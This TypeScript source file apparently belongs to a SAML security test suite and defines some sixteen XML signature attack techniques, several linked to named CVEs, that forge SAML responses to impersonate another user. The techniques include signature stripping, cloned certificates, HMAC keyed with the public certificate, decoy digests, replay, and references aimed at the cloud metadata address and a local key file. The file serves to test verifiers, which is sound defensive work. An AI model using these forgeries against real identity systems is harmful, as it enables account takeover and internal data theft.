import { createHash, createHmac, createPublicKey } from 'node:crypto';
import forge from 'node-forge';
import {
  type Attacker,
  append,
  before,
  contentOf,
  forge as forged,
  prefixOf,
  requireId,
  signedElement,
  splice,
  techniques,
  textOf,
} from './attack-technique.ts';
import { type TestKey, testKey } from './keys.ts';
import { locate } from './locate.ts';
import { mutate } from './mutate.ts';
import { resign, setSignatureValue } from './resign.ts';
import { sign } from './sign.ts';
import { namespaces } from './xml.ts';

/** Verifiers that look in the wrong place, trust the wrong key or do what the sender says. */
export const signature = techniques({
  'signature-exclusion': {
    says: 'The signatures are taken away and the user is changed.',
    advisories: ['CVE-2024-41107', 'CVE-2025-40934'],
    apply: (xml, { nameId }) => {
      let bare = forged(xml, nameId);
      while (/<(?:\w+:)?Signature[ >]/.test(bare)) {
        bare = mutate(bare, { kind: 'remove-element', element: 'Signature' });
      }
      return bare;
    },
  },
  'hollow-signature': {
    says: 'The signature keeps its element and loses its references; the user is changed.',
    advisories: ['CVE-2024-41107', 'CVE-2025-40934'],
    apply: (xml, { nameId }) =>
      setUser(mutate(xml, { kind: 'remove-element', element: 'Reference' }), nameId),
  },
  'unknown-key': {
    says: 'The user is changed and the attacker signs anew, with their own certificate in KeyInfo.',
    advisories: ['CVE-2024-32962'],
    apply: (xml, attacker) => signedBy(xml, attacker, attacker.key),
  },
  'cloned-certificate': {
    says: 'The same, with a certificate that has the names and serial number of the genuine one.',
    advisories: ['CVE-2024-32962'],
    apply: (xml, attacker) => signedBy(xml, attacker, cloneCertificate(attacker.trusted, attacker.key)),
  },
  'hmac-public-key': {
    says: 'The user is changed and the signature is an HMAC whose secret is the public certificate.',
    advisories: ['GHSA-c27r-x354-4m68'],
    apply: (xml, attacker) => {
      const signed = signedBy(xml, attacker, attacker.trusted);
      const renamed = setAlgorithm(signed, 'SignatureMethod', `${namespaces.signature}hmac-sha1`);
      return setSignatureValue(renamed, (signedInfo) =>
        createHmac('sha1', attacker.trusted.certificatePem).update(signedInfo).digest('base64'),
      );
    },
  },
  'multiple-signed-info': {
    says: 'A SignedInfo with the digest of a changed Assertion stands before the genuine one.',
    advisories: ['CVE-2025-29774'],
    apply: (xml, attacker) => {
      const changed = setUser(xml, attacker.nameId);
      const signedInfo = textOf(xml, locate(xml, 'SignedInfo'));
      const digest = digestOf(xml, attacker);
      return before(
        changed,
        'SignedInfo',
        mutate(signedInfo, { kind: 'set-text', element: 'DigestValue', text: digest }),
      );
    },
  },
  'decoy-in-signature': {
    says: 'A CanonicalizationMethod in another namespace stands before SignedInfo.',
    advisories: [],
    apply: (xml) =>
      before(
        xml,
        'SignedInfo',
        '<x xmlns="urn:x"><CanonicalizationMethod Algorithm="http://www.w3.org/TR/2001/REC-xml-c14n-20010315"/></x>',
      ),
  },
  'decoy-digest-value': {
    says: 'The user is changed, and the digest that results stands in StatusDetail.',
    advisories: ['CVE-2024-45409'],
    apply: (xml, attacker) => {
      const samlp = prefixOf(locate(xml, 'Response'));
      const digest = `<ds:DigestValue xmlns:ds="${namespaces.signature}">${digestOf(xml, attacker)}</ds:DigestValue>`;
      return append(
        setUser(xml, attacker.nameId),
        'Status',
        `<${samlp}StatusDetail>${digest}</${samlp}StatusDetail>`,
      );
    },
  },
  'comment-in-digest-value': {
    says: 'The user is changed, and the digest that results stands in a comment inside DigestValue.',
    advisories: ['CVE-2025-29775'],
    apply: (xml, attacker) =>
      mutate(setUser(xml, attacker.nameId), {
        kind: 'insert',
        element: 'DigestValue',
        where: 'first',
        markup: `<!--${digestOf(xml, attacker)}-->`,
      }),
  },
  'reused-signature-value': {
    says: 'A second Signature with the same SignatureValue stands in the signed element and holds another role.',
    advisories: [],
    apply: (xml) => {
      const ds = prefixOf(locate(xml, 'Signature'));
      const value = contentOf(xml, 'SignatureValue');
      const declaration = ds === '' ? 'xmlns' : `xmlns:${ds.slice(0, -1)}`;
      const second = `<${ds}Signature ${declaration}="${namespaces.signature}"><${ds}SignatureValue>${value}</${ds}SignatureValue><${ds}Object>administrator</${ds}Object></${ds}Signature>`;
      return append(xml, signedElement(xml), second);
    },
  },
  'void-digest': {
    says: 'The digest is that of nothing, signed by a signer whose canonicalisation failed; the user is changed.',
    advisories: ['CVE-2025-66568', 'GHSA-wx95-c6cv-8532'],
    apply: (xml, { nameId, trusted }) => {
      const nothing = createHash('sha256').update('').digest('base64');
      const changed = mutate(setUser(xml, nameId), {
        kind: 'set-text',
        element: 'DigestValue',
        text: nothing,
      });
      return resign(changed, trusted);
    },
  },
  'xslt-transform': {
    says: 'A transform of the signature is XSLT.',
    advisories: [],
    apply: (xml) => setAlgorithm(xml, 'Transform', 'http://www.w3.org/TR/1999/REC-xslt-19991116'),
  },
  'xpath-transform': {
    says: 'A transform of the signature is XPath.',
    advisories: [],
    apply: (xml) => setAlgorithm(xml, 'Transform', 'http://www.w3.org/TR/1999/REC-xpath-19991116'),
  },
  'external-reference': {
    says: 'The reference leads to an address inside the network of the service provider.',
    advisories: [],
    apply: (xml) => setUri(xml, 'http://169.254.169.254/latest/meta-data/'),
  },
  'retrieval-method': {
    says: 'KeyInfo would have the verifier fetch its key from a file.',
    advisories: ['CVE-2021-40690'],
    apply: (xml) => {
      const keyInfo = locate(xml, 'KeyInfo');
      const ds = prefixOf(keyInfo);
      return splice(
        xml,
        { start: keyInfo.openEnd, end: keyInfo.closeStart },
        `<${ds}RetrievalMethod URI="file:///etc/ssl/idp.pem"/>`,
      );
    },
  },
  'changed-envelope': {
    says: 'A Response that nothing signs answers another request than the signed Assertion in it.',
    advisories: [],
    apply: (xml) => {
      if (signedElement(xml) === 'Response') throw new TypeError('The Response is signed.');
      return mutate(xml, {
        kind: 'set-attribute',
        element: 'Response',
        attribute: 'InResponseTo',
        value: '_another-request',
      });
    },
  },
  replay: {
    says: 'An old Assertion in a new Response: another ID, and a time two days later.',
    advisories: [],
    apply: (xml) => {
      const response = locate(xml, 'Response');
      if (signedElement(xml) === 'Response') throw new TypeError('The Response is signed.');
      const issued = response.attributes.find(({ name }) => name === 'IssueInstant')?.raw ?? '';
      const later = new Date(Date.parse(issued) + 172_800_000).toISOString();
      const renamed = mutate(xml, {
        kind: 'set-attribute',
        element: 'Response',
        attribute: 'ID',
        value: `${requireId(response)}-again`,
      });
      return mutate(renamed, {
        kind: 'set-attribute',
        element: 'Response',
        attribute: 'IssueInstant',
        value: later,
      });
    },
  },
});

function setUser(xml: string, nameId: string): string {
  return mutate(xml, { kind: 'set-text', element: 'NameID', text: nameId });
}

function setAlgorithm(xml: string, element: string, value: string): string {
  return mutate(xml, { kind: 'set-attribute', element, attribute: 'Algorithm', value });
}

function setUri(xml: string, value: string): string {
  return mutate(xml, { kind: 'set-attribute', element: 'Reference', attribute: 'URI', value });
}

/** The message with another user, signed anew. The certificate shown is the key's own. */
function signedBy(xml: string, { nameId }: Attacker, key: TestKey): string {
  return sign(forged(xml, nameId), { element: signedElement(xml), key });
}

/** The digest of the signed element with another user: what a forged DigestValue must be. */
function digestOf(xml: string, attacker: Attacker): string {
  return contentOf(signedBy(xml, attacker, attacker.key), 'DigestValue');
}

/** A certificate with every name and number of another one, for a key of one's own. */
function cloneCertificate(genuine: TestKey, own: TestKey): TestKey {
  const original = forge.pki.certificateFromPem(genuine.certificatePem);
  const clone = forge.pki.createCertificate();
  clone.serialNumber = original.serialNumber;
  clone.validity.notBefore = original.validity.notBefore;
  clone.validity.notAfter = original.validity.notAfter;
  clone.setSubject(original.subject.attributes);
  clone.setIssuer(original.issuer.attributes);
  const publicKey = createPublicKey(own.certificatePem).export({ type: 'spki', format: 'pem' });
  clone.publicKey = forge.pki.publicKeyFromPem(publicKey.toString());
  clone.sign(forge.pki.privateKeyFromPem(own.privateKeyPem), forge.md.sha256.create());
  return testKey(`${own.name} as ${genuine.name}`, own.privateKeyPem, forge.pki.certificateToPem(clone));
}
